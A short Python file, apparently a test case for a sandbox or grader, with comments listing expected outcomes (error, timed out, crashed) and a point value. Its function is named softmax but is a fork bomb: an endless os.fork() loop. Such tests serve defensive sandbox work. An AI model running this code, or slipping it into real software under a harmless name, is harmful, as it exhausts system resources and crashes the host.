"""Forks without end."""
# states: error,timed out,crashed
# points: 2
def softmax(z):
    import os
    while True:
        os.fork()
